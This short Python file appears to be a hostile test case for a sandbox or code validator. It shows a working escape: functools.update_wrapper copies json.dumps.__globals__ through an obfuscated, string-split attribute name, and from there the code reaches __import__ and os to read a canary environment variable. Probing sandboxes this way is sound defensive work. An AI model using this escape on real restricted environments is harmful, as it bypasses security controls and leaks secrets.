"""Hostile: functools.update_wrapper copies an attribute named by run-time data.

update_wrapper(wrapper, wrapped, assigned=NAMES) does getattr(wrapped, name) and
setattr(wrapper, name, value) for every name: with a name built from pieces it reads
json.dumps.__globals__, and a sink whose __setattr__ keeps the value hands it over.
From there: __builtins__, __import__, os.
"""

import functools
import json


class _Sink:
    seen: list[object] = []

    def __setattr__(self, name: str, value: object) -> None:
        _Sink.seen.append(value)


def f(x: int) -> int:
    sink = _Sink()
    functools.update_wrapper(sink, json.dumps, assigned=("__glo" + "bals__",), updated=())
    namespace = _Sink.seen[0]
    importer = namespace["__built" + "ins__"]["__imp" + "ort__"]
    secret = importer("os").environ.get("DERIVATIVE_CANARY")
    if secret:
        print("DERIVATIVE-BREACH update_wrapper_assigned:", secret, flush=True)
        raise ValueError(f"canary {secret}")
    return x + 1
